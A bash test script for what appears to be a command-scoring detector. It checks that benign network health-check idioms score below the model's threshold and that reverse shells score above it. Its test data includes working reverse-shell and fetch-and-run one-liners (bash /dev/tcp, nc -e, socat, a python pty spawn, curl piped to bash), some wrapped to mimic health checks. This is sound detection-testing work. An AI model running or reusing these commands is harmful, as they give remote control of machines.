#!/usr/bin/env bash
# benign_net.sh: the committed model (embedded, at its own threshold) on benign network idioms it
# never trained on: the hand-written tests/score/benign-net.txt, the reported false alerts
# (tests/score/benign-net-reported.txt) and a handful of instances of the held-out templates of
# tools/gen_benign_net.py score below the threshold; reverse shells that look like them (a
# /dev/tcp redirection, curl/wget to IP:port, a check's wrappers around an attack) score at or
# above it. docs/scoring.md, "Benign network idioms".
. "$(dirname "$0")/../lib.sh"
S() { "$SW_BIN" score "$@"; }

# below NAME FILE: no line of FILE (comments and blank lines skipped) at or above the threshold
below() {
	local in=$SW_TMP/in.txt hits
	grep -v -e '^#' -e '^[[:space:]]*$' "$2" > "$in"
	hits=$(S --threshold model "$in")
	if [ -s "$in" ] && [ -z "$hits" ]; then
		tap_ok "$1 ($(wc -l < "$in") lines)"
	else
		tap_fail "$1" "at or above the model's threshold:"
		sed 's/^/#     /' <<<"$hits"
	fi
}

# above NAME FILE: every line of FILE at or above the threshold
above() {
	local missed
	missed=$(diff <(S "$2") <(S --threshold model "$2") | sed -n 's/^< //p')
	if [ -s "$2" ] && [ -z "$missed" ]; then
		tap_ok "$1 ($(wc -l < "$2") lines)"
	else
		tap_fail "$1" "below the model's threshold:"
		sed 's/^/#     /' <<<"$missed"
	fi
}

below "hand-written benign network idioms below the threshold" "$SW_ROOT/tests/score/benign-net.txt"
below "reported false alerts below the threshold" "$SW_ROOT/tests/score/benign-net-reported.txt"

# instances of held-out templates (tools/gen_benign_net.py --holdout), never trained on
cat > "$SW_TMP/held.txt" <<'EOF'
timeout 30 bash -c 'while ! etcdctl --endpoints=http://172.31.67.51:2379 endpoint health; do sleep 1; done'
nc -vz 192.168.107.236 2181
/usr/bin/env bash -c 'curl -s http://cassandra:9042/ | jq .'
exec 9<>/dev/tcp/127.0.0.1/9042; echo -e 'GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n' >&9; grep -q '200 OK' <&9
exec 6<>/dev/tcp/127.0.0.1/11211; printf 'HEAD / HTTP/1.0\r\n\r\n' >&6; head -n 1 <&6; exec 6>&-; echo
/bin/bash -c 'true &>/dev/null </dev/tcp/$1/$2'
exec 3<>/dev/tcp/ci/18080 && echo -e "GET /api/json HTTP/1.1\r\nHost: ci\r\nConnection: close\r\n\r\n" >&3 && timeout 1 cat <&3
for i in $(seq 1 20); do python -c 'import sys, requests; sys.exit(requests.get("http://192.168.147.94:8080/healthz").status_code != 200)' && break; sleep 1; done
EOF
below "held-out generated benign network idioms below the threshold" "$SW_TMP/held.txt"

cat > "$SW_TMP/rev.txt" <<'EOF'
bash -i >& /dev/tcp/10.0.0.1/4444 0>&1
exec 5<>/dev/tcp/10.0.0.1/4444; cat <&5 | while read l; do $l 2>&5 >&5; done
bash -c 'exec 3<>/dev/tcp/10.0.0.1/4444; sh <&3 >&3 2>&3'
curl http://1.2.3.4:8000/x.sh | bash
wget -O- http://10.2.3.4:8080/s | sh
nc -e /bin/sh 10.0.0.1 4444
ncat --ssl 10.0.0.1 443 -e /bin/bash
python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("10.0.0.1",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")'
socat tcp:10.9.8.7:443 exec:'bash -li',pty,stderr,setsid
mkfifo /tmp/f; nc 1.2.3.4 80 < /tmp/f | /bin/sh > /tmp/f 2>&1
EOF
above "reverse shells at or above the threshold" "$SW_TMP/rev.txt"

# the forms the benign checks come in must not hide an attack
cat > "$SW_TMP/wrapped.txt" <<'EOF'
timeout 5 bash -c 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'
until bash -i >& /dev/tcp/10.0.0.1/4444 0>&1; do sleep 5; done
/bin/sh -c 'bash -i >& /dev/tcp/172.17.0.1/9001 0>&1 || exit 1'
(bash -i >& /dev/tcp/127.0.0.1/8080 0>&1) 2>/dev/null && echo open
bash -c "sh -i >& /dev/tcp/db/5432 0>&1"
while true; do nc 10.0.0.1 4444 -e /bin/bash; sleep 30; done
EOF
above "reverse shells in a health check's wrappers at or above the threshold" "$SW_TMP/wrapped.txt"
